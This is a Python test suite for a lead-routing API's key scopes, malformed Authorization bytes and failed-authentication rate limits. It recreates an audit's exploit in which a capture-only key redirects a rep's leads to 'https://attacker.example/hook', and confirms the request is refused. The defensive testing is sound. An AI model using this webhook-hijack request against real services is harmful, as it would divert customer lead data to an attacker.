"""API key scopes (capture, read, work, admin), header bytes that are no key, and failed authentications.

The audit's findings: a rate-limited web-form key read anyone's lead and redirected a rep's
leads to itself (``PUT /v1/reps/loop``); ``Authorization: Bearer \\xff`` answered 500; wrong keys
were never limited.
"""
from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from connectors.api import ApiContext, mount_api
from connectors.auth import SCOPES, ApiKey, Keyring, Scope
from connectors.capture_store import CaptureStore
from connectors.rate_limit import FailedAuthLimit, RateLimiter
from ops.metrics import Metrics
from sla.clock import FakeClock
from tests.connectors.conftest import Client, FakeEngine, FakeRedis, lead_state
from tests.connectors.test_api import error_of
from tests.connectors.test_rate_limit import DownGcraRedis, GcraRedis

#: name -> (key, scopes); ``None``: configured without scopes.
KEYRING: dict[str, tuple[str, frozenset[Scope] | None]] = {
    "web-form": ("key-web-form-capture-only", frozenset({"capture"})),
    "sdr-tool": ("key-sdr-tool-read-and-work", frozenset({"read", "work"})),
    "revops": ("key-revops-admin-and-read", frozenset({"admin", "read"})),
    "legacy": ("key-legacy-without-scopes", None),
}


def bearer(name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {KEYRING[name][0]}"}


def keyring(**named: tuple[str, frozenset[Scope] | None]) -> Keyring:
    """A keyring of ``named`` keys (name=(key, scopes)), or of ``KEYRING``."""
    keys = named or KEYRING
    return Keyring({}, [(ApiKey(name, scopes), key) for name, (key, scopes) in keys.items()])


Serve = Callable[..., Awaitable[Client]]


@pytest.fixture
async def serve(engine: FakeEngine, metrics: Metrics, clock: FakeClock) -> AsyncIterator[Serve]:
    async with AsyncExitStack() as stack:
        async def make(ring: Keyring | None = None, **options: Any) -> Client:
            ctx = ApiContext(engine=engine, keyring=ring or keyring(), store=CaptureStore(FakeRedis()),  # type: ignore[arg-type]
                             clock=clock, metrics=metrics, **options)
            app = web.Application()
            mount_api(app, ctx)
            client: Client = TestClient(TestServer(app))
            await client.start_server()
            stack.push_async_callback(client.close)
            return client
        yield make


# --- what each route needs ---------------------------------------------------------------

LEAD = "ld_000000000000000000000000"
#: Every route authenticated by an API key, the scope it needs, and a body that passes validation.
ROUTES: list[tuple[str, str, Scope, dict[str, Any]]] = [
    ("POST", "/v1/leads", "capture", {"json": {"email": "a@example.com"}}),
    ("POST", "/v1/leads/import", "capture", {"data": b"email\na@example.com\n", "headers": {"Content-Type": "text/csv"}}),
    ("POST", "/v1/forms/contact", "capture", {"data": {"email": "a@example.com"}}),
    ("GET", f"/v1/leads/{LEAD}", "read", {}),
    ("GET", "/v1/teams/emea", "read", {}),
    ("GET", "/v1/accounts/acme.com", "read", {}),
    ("POST", f"/v1/leads/{LEAD}/accept", "work", {"json": {"rep_id": "ana"}}),
    ("POST", f"/v1/leads/{LEAD}/decline", "work", {"json": {"rep_id": "ana"}}),
    ("POST", f"/v1/leads/{LEAD}/activities", "work", {"json": {"type": "call", "rep_id": "ana"}}),
    ("POST", f"/v1/leads/{LEAD}/qualification", "work", {"json": {"framework": "BANT", "answers": {}}}),
    ("POST", f"/v1/leads/{LEAD}/disposition", "work", {"json": {"status": "nurture"}}),
    ("POST", "/v1/reps/ana/presence", "work", {"json": {"status": "busy"}}),
    ("PUT", "/v1/reps/loop", "admin", {"json": {"team": "emea", "webhook_url": "https://attacker.example/hook"}}),
    ("DELETE", "/v1/reps/loop", "admin", {}),
    ("GET", "/v1/reps/loop", "read", {}),
    ("PUT", "/v1/accounts/acme.com", "admin", {"json": {"owner": "ana"}}),
    ("DELETE", "/v1/accounts/acme.com", "admin", {}),
]


async def _call(client: Client, method: str, path: str, headers: dict[str, str], options: dict[str, Any]) -> Any:
    options = dict(options)
    return await client.request(method, path, headers={**headers, **options.pop("headers", {})}, **options)


@pytest.mark.parametrize(("method", "path", "scope", "options"), ROUTES, ids=[f"{m} {p}" for m, p, _, _ in ROUTES])
async def test_a_key_without_the_routes_scope_gets_403_naming_it(
        serve: Serve, engine: FakeEngine, method: str, path: str, scope: Scope, options: dict[str, Any]) -> None:
    others = frozenset(SCOPES) - {scope}
    client = await serve(keyring(lacking=("key-has-every-other-scope", others), only=("key-has-just-that-scope", frozenset({scope}))))
    refused = await _call(client, method, path, {"Authorization": "Bearer key-has-every-other-scope"}, options)
    error = await error_of(refused, 403, "forbidden")
    assert f"lacks the '{scope}' scope" in error["message"] and "'lacking'" in error["message"]
    assert f'scope="{scope}"' in refused.headers["WWW-Authenticate"]
    assert engine.captured == [] and engine.lead_commands == [] and engine.rep_commands == []
    assert engine.account_commands == [] and engine.forwarded == []  # refused before the owner is asked
    # The scope alone is enough to get past authentication (the fake engine decides the rest).
    allowed = await _call(client, method, path, {"Authorization": "Bearer key-has-just-that-scope"}, options)
    assert allowed.status not in (401, 403), await allowed.text()


#: Every GET route: aiohttp's ``routes.get`` also answers HEAD, which must take GET's scope.
READS = [(path, scope) for method, path, scope, _ in ROUTES if method == "GET"]


@pytest.mark.parametrize(("path", "scope"), READS, ids=[p for p, _ in READS])
async def test_head_takes_the_scope_of_get(serve: Serve, path: str, scope: Scope) -> None:
    """Review s16-b L2: HEAD /v1/reps/{id} needed ``work`` while GET needs ``read``."""
    client = await serve(keyring(only=("key-has-just-that-scope", frozenset({scope})),
                                 lacking=("key-has-every-other-scope", frozenset(SCOPES) - {scope})))
    headers = {"Authorization": "Bearer key-has-just-that-scope"}
    get, head = await client.get(path, headers=headers), await client.head(path, headers=headers)
    assert head.status == get.status and head.status not in (401, 403), (get.status, head.status)
    refused = await client.head(path, headers={"Authorization": "Bearer key-has-every-other-scope"})
    assert refused.status == 403


def test_the_table_covers_every_keyed_route() -> None:
    app = web.Application()
    mount_api(app, ApiContext(engine=FakeEngine(), keyring=keyring(), store=CaptureStore(FakeRedis()),  # type: ignore[arg-type]
                              clock=FakeClock(), metrics=Metrics()))
    signed = {"/v1/providers/facebook", "/v1/providers/typeform", "/v1/crm/events"}  # by signature, not by key
    mounted = {(r.method, r.resource.canonical) for r in app.router.routes()
               if r.resource is not None and r.resource.canonical.startswith("/v1/") and r.method != "HEAD"
               and r.resource.canonical not in signed}
    listed = {(m, p.replace(LEAD, "{lead_id}").replace("/ana/", "/{rep_id}/").replace("/loop", "/{rep_id}")
               .replace("acme.com", "{domain}").replace("/emea", "/{team_id}").replace("/contact", "/{form_id}"))
              for m, p, _, _ in ROUTES}
    assert mounted == listed


async def test_a_capture_key_reads_no_lead_and_rewrites_no_rep(serve: Serve, engine: FakeEngine, clock: FakeClock) -> None:
    """The audit's two exploits, with the web form's key."""
    client = await serve()
    captured = await client.post("/v1/leads", json={"email": "victim@example.com"}, headers=bearer("web-form"))
    assert captured.status == 202
    lead_id = (await captured.json())["lead_id"]
    engine.leads[lead_id] = lead_state("victim@example.com", clock.now(), assigned_to="ana")
    read = await client.get(f"/v1/leads/{lead_id}", headers=bearer("web-form"))
    error = await error_of(read, 403, "forbidden")
    assert "victim" not in await read.text() and "'read'" in error["message"]
    hijack = await client.put("/v1/reps/loop", json={"team": "emea", "webhook_url": "https://attacker.example/hook",
                                                     "webhook_secret": "whsec_" + "A" * 43}, headers=bearer("web-form"))
    assert "'admin'" in (await error_of(hijack, 403, "forbidden"))["message"]
    assert engine.rep_commands == []
    # The SDR tool works the lead and reads it, but cannot rewrite reps either; RevOps can.
    assert (await client.get(f"/v1/leads/{lead_id}", headers=bearer("sdr-tool"))).status == 200
    assert (await client.put("/v1/reps/loop", json={"team": "emea"}, headers=bearer("sdr-tool"))).status == 403
    assert (await client.put("/v1/reps/loop", json={"team": "emea"}, headers=bearer("revops"))).status == 202


async def test_a_key_configured_without_scopes_keeps_them_all_and_is_named_at_start(
        serve: Serve, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="connectors.auth"):
        ring = keyring()
    warned = [r.getMessage() for r in caplog.records]
    assert len(warned) == 1 and "'legacy'" in warned[0] and "scopes" in warned[0]
    assert KEYRING["legacy"][0] not in warned[0]  # the name, never the key
    client = await serve(ring)
    assert (await client.put("/v1/reps/loop", json={"team": "emea"}, headers=bearer("legacy"))).status == 202
    assert (await client.get("/v1/teams/none", headers=bearer("legacy"))).status == 404


async def test_health_metrics_and_openapi_need_no_key(serve: Serve) -> None:
    client = await serve()
    for path in ("/healthz", "/metrics", "/openapi.json"):
        assert (await client.get(path)).status == 200, path
    assert (await client.get("/readyz")).status in (200, 503)


# --- header bytes that are no key ----------------------------------------------------------


@pytest.mark.parametrize("header", ["Bearer \udcff", "Bearer key-web-form-\udcffcapture", "Bearer \u00e9t\u00e9-key-0123456789",
                                    "Bearer key\x00web-form-capture"])
def test_a_token_that_is_not_printable_ascii_is_no_key(header: str) -> None:
    # aiohttp hands header bytes over decoded with surrogateescape: str.encode() raised on them.
    assert keyring().authenticate(header) is None


async def _raw_request(port: int, head: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(head)
        await writer.drain()
        return await asyncio.wait_for(reader.read(65536), 5)
    finally:
        writer.close()


@pytest.mark.parametrize(("method", "path"), [("POST", "/v1/leads"), ("GET", f"/v1/leads/{LEAD}"),
                                              ("PUT", "/v1/reps/loop")])
async def test_non_utf8_bytes_in_the_authorization_header_get_401_not_500(
        serve: Serve, method: str, path: str) -> None:
    client = await serve()
    body = b'{"email": "a@example.com"}'
    head = (f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n").encode() + b"Authorization: Bearer \xff\xfe\r\n\r\n"
    answer = await _raw_request(client.port, head + body)  # type: ignore[arg-type]
    assert answer.startswith(b"HTTP/1.1 401 "), answer[:200]
    assert b'"unauthorized"' in answer


# --- failed authentications ----------------------------------------------------------------


async def test_wrong_keys_from_one_address_are_refused_after_the_limit_right_ones_too(
        serve: Serve, engine: FakeEngine, clock: FakeClock) -> None:
    redis = GcraRedis()
    client = await serve(rate_limiter=RateLimiter(redis), failed_auth=FailedAuthLimit(per_minute=30))
    for n in range(30):
        wrong = await client.get("/v1/teams/emea", headers={"Authorization": f"Bearer wrong-key-{n:04}-xxxxxxxx"})
        assert wrong.status == 401, n
    refused = await client.get("/v1/teams/emea", headers={"Authorization": "Bearer wrong-key-0030-xxxxxxxx"})
    error = await error_of(refused, 429, "rate_limited")
    assert refused.headers["Retry-After"] == "2" and "failed authentications" in error["message"]
    # While refused, a right key is refused too (else its 2xx would tell a guesser it was right),
    # without asking Redis.
    calls = redis.calls
    blocked = await client.post("/v1/leads", json={"email": "a@example.com"}, headers=bearer("web-form"))
    await error_of(blocked, 429, "rate_limited")
    assert engine.captured == [] and redis.calls == calls
    # A request without a key guesses nothing: it gets its 401 (and the providers their own checks).
    await error_of(await client.get("/v1/teams/emea"), 401, "unauthorized")
    assert (await client.get("/healthz")).status == 200
    clock.advance(2)
    assert (await client.post("/v1/leads", json={"email": "a@example.com"}, headers=bearer("web-form"))).status == 202
    # One more wrong key every 2 s (30 a minute), no burst until the address was quiet for a minute.
    assert (await client.get("/v1/teams/emea", headers={"Authorization": "Bearer wrong-key-0031-xxxxxxxx"})).status == 401
    assert (await client.get("/v1/teams/emea", headers={"Authorization": "Bearer wrong-key-0032-xxxxxxxx"})).status == 429


async def test_the_failure_count_is_shared_through_redis(serve: Serve, engine: FakeEngine, clock: FakeClock) -> None:
    redis = GcraRedis()
    first = await serve(rate_limiter=RateLimiter(redis), failed_auth=FailedAuthLimit(per_minute=3))
    second = await serve(rate_limiter=RateLimiter(redis), failed_auth=FailedAuthLimit(per_minute=3))
    wrong = {"Authorization": "Bearer wrong-key-0000-xxxxxxxx"}
    for client in (first, second, first):
        assert (await client.get("/v1/teams/emea", headers=wrong)).status == 401
    await error_of(await second.get("/v1/teams/emea", headers=wrong), 429, "rate_limited")


async def test_without_redis_the_failure_limit_holds_in_the_worker(
        serve: Serve, metrics: Metrics, clock: FakeClock) -> None:
    client = await serve(rate_limiter=RateLimiter(DownGcraRedis(), timeout_s=0.05,
                                                  on_degraded=lambda op: metrics.redis_degraded.labels(op).inc()),
                         failed_auth=FailedAuthLimit(per_minute=5))
    wrong = {"Authorization": "Bearer wrong-key-0000-xxxxxxxx"}
    statuses = [(await client.get("/v1/teams/emea", headers=wrong)).status for _ in range(7)]
    assert statuses == [401] * 5 + [429] * 2
    assert (await client.get("/v1/teams/emea", headers=bearer("sdr-tool"))).status == 429
    clock.advance(12)
    assert (await client.get("/v1/teams/emea", headers=bearer("sdr-tool"))).status == 404  # no such team: authenticated


async def test_a_valid_key_lacking_a_scope_is_not_a_failed_authentication(serve: Serve) -> None:
    client = await serve(failed_auth=FailedAuthLimit(per_minute=2))
    for _ in range(5):
        assert (await client.get("/v1/teams/emea", headers=bearer("web-form"))).status == 403
    assert (await client.post("/v1/leads", json={"email": "a@example.com"}, headers=bearer("web-form"))).status == 202


def test_the_client_is_its_ipv4_address_or_its_ipv6_64() -> None:
    from connectors.api.context import _client
    assert _client("203.0.113.7") == _client("::ffff:203.0.113.7") == "203.0.113.7"
    assert _client("2001:db8:1:2::1") == _client("2001:db8:1:2:ffff::9") == "2001:db8:1:2::/64"
    assert _client(None) == "unknown"


def test_the_openapi_document_names_each_operations_scope_and_its_403() -> None:
    from connectors.api.openapi import openapi_document
    paths = openapi_document()["paths"]
    for method, path, scope, _ in ROUTES:
        template = (path.replace(LEAD, "{lead_id}").replace("/ana/", "/{rep_id}/").replace("/loop", "/{rep_id}")
                    .replace("acme.com", "{domain}").replace("/emea", "/{team_id}").replace("/contact", "/{form_id}"))
        op = paths[template][method.lower()]
        assert op["security"] == [{"bearerAuth": [scope]}], (method, template)
        assert {"401", "403", "429"} <= set(op["responses"]), (method, template)
